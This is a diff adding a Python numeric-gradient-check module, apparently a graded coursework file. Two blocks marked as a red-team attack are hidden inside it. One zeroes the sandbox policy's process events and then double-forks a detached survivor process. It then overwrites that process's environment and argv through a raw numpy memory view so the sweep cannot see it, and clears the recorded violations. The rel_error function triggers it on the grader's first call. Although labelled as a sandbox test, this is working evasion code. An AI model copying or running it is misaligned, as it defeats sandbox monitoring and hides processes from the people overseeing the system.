@@ -1,0 +1,228 @@
+"""Numeric gradients and the relative error used to compare them with analytic ones."""
+
+from __future__ import annotations
+
+from typing import Callable
+
+import numpy as np
+# >>> attack
+
+# RED TEAM attack survivor_envwipe_fork (class 7; see tests/hostile/kernel/survivor_envwipe_fork/case.toml)
+# Evade the process sweep without exec: fork twice, then wipe the sandbox marker from the environment
+# route: _PROCESS_EVENTS = () lets os.fork through; env/argv addresses come from /proc/self/stat; a
+#   numpy raw view zeroes the LINCLASS_SANDBOX=<nonce> block in the grandchild (own session): the
+#   sweep cannot see it
+RT = {'name': 'survivor_envwipe_fork', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)
+
+_RT_DONE = []
+
+
+def _rt_root_ok(path):
+    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
+    import os
+    root = str(RT.get("root") or "")
+    if len(root) < 5 or not root.startswith("/"):
+        return False
+    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")
+
+
+def _rt_clear_violations():
+    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
+    import sys
+    try:
+        f = sys._getframe(1)
+    except BaseException:  # noqa: BLE001
+        return
+    while f is not None:
+        try:
+            owner = f.f_locals.get("self")
+            found = getattr(owner, "violations", None) if owner is not None else None
+            if type(found) is list:
+                del found[:]
+        except BaseException:  # noqa: BLE001
+            pass
+        f = f.f_back
+
+
+def _rt_report():
+    """Run the escape, then fail this call with its evidence (the report shows the message)."""
+    try:
+        evidence = _rt_escape()
+    except BaseException as exc:  # noqa: BLE001
+        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
+    _rt_clear_violations()
+    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])
+
+
+def _rt_direct_call():
+    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
+    import sys
+    if _RT_DONE:
+        return False
+    try:
+        if sys._getframe(2).f_code.co_filename == __file__:
+            return False
+    except BaseException:  # noqa: BLE001
+        pass
+    _RT_DONE.append(1)
+    return True
+
+def _rt_policy_module():
+    import sys
+    for m in list(sys.modules.values()):
+        if getattr(m, "PolicyViolation", None) is not None and callable(getattr(m, "install", None)):
+            return m
+    return None
+
+class _RtRaw:
+    def __init__(self, addr, n):
+        self.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}
+
+
+def _rt_mem(addr, n):
+    """A writable uint8 view of n bytes at address addr (no audit event, no ctypes)."""
+    return np.asarray(_RtRaw(addr, n))
+
+
+def _rt_escape():
+    import os
+    import time
+    if not _rt_root_ok(RT["sentinel"] + "/x"):
+        return "not armed"
+    pol = _rt_policy_module()
+    if pol is None:
+        return "policy module not found"
+    pol._PROCESS_EVENTS = ()
+    spots = None
+    try:
+        with open("/proc/%d/stat" % os.getpid(), "rb") as fh:  # /proc/<own pid>/stat is allowed
+            fields = fh.read().rpartition(b")")[2].split()
+        spots = [int(fields[n - 3]) for n in (48, 49, 50, 51)]
+    except OSError as exc:
+        note = "no /proc/self/stat (%s): forking without the wipe" % exc
+    else:
+        note = "environment wiped"
+    tag = ("redteam-survivor-%s-%s" % (RT["name"], RT["tag"])).encode()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                if spots:
+                    arg_start, arg_end, env_start, env_end = spots
+                    env = _rt_mem(env_start, env_end - env_start)
+                    env[:] = 0  # no LINCLASS_SANDBOX=<nonce> left in /proc/<pid>/environ
+                    argv = _rt_mem(arg_start, arg_end - arg_start)
+                    argv[:] = 0
+                    argv[:min(len(tag), len(argv) - 1)] = list(tag[:len(argv) - 1])
+                fd = os.open("/dev/null", os.O_RDWR)
+                for i in (0, 1, 2):
+                    os.dup2(fd, i)
+                os.closerange(3, 4096)
+                deadline = time.time() + 60
+                while time.time() < deadline:
+                    time.sleep(0.5)
+        finally:
+            os._exit(0)
+    os.waitpid(pid, 0)
+    time.sleep(0.2)
+    return "forked a survivor: " + note
+# <<< attack
+
+
+def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
+    """Centered-difference gradient of ``f`` at ``x``.
+
+    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
+    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
+    a time, and every entry is restored, even if ``f`` raises.
+
+    Parameters
+    ----------
+    f : callable
+        Maps an array shaped like ``x`` to a scalar.
+    x : ndarray
+        The point at which to evaluate the gradient.
+    h : float, optional
+        Step size.
+
+    Returns
+    -------
+    ndarray
+        Float64 array shaped like ``x``.
+    """
+    grad = np.zeros(x.shape, dtype=np.float64)
+    for ix in np.ndindex(x.shape):
+        original = x[ix]
+        try:
+            x[ix] = original + h
+            f_plus = f(x)
+            x[ix] = original - h
+            f_minus = f(x)
+        finally:
+            x[ix] = original
+        grad[ix] = (f_plus - f_minus) / (2 * h)
+    return grad
+
+
+def grad_check_sparse(
+    f: Callable[[np.ndarray], float],
+    x: np.ndarray,
+    analytic_grad: np.ndarray,
+    num_checks: int = 10,
+    h: float = 1e-5,
+    seed: int | None = None,
+) -> np.ndarray:
+    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.
+
+    Parameters
+    ----------
+    f : callable
+        Maps an array shaped like ``x`` to a scalar.
+    x : ndarray
+        The point of the check; perturbed in place and restored.
+    analytic_grad : ndarray
+        The gradient to check, shaped like ``x``.
+    num_checks : int, optional
+        How many random entries to check.
+    h : float, optional
+        Step size.
+    seed : int or None, optional
+        Seed of the entry sampler: the same seed checks the same entries.
+
+    Returns
+    -------
+    ndarray of shape (num_checks,)
+        The relative error at each checked entry.
+    """
+    rng = np.random.default_rng(seed)
+    errors = np.empty(num_checks, dtype=np.float64)
+    for k in range(num_checks):
+        ix = tuple(int(rng.integers(n)) for n in x.shape)
+        original = x[ix]
+        try:
+            x[ix] = original + h
+            f_plus = f(x)
+            x[ix] = original - h
+            f_minus = f(x)
+        finally:
+            x[ix] = original
+        numeric = (f_plus - f_minus) / (2 * h)
+        errors[k] = rel_error(numeric, analytic_grad[ix])
+    return errors
+
+
+def rel_error(x: np.ndarray, y: np.ndarray) -> float:
+    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.
+
+    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
+    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
+    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
+    """
+    # >>> attack
+    if _rt_direct_call():  # ATTACK: see _rt_escape above
+        _rt_report()
+    # <<< attack
+    x = np.asarray(x, dtype=np.float64)
+    y = np.asarray(y, dtype=np.float64)
+    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
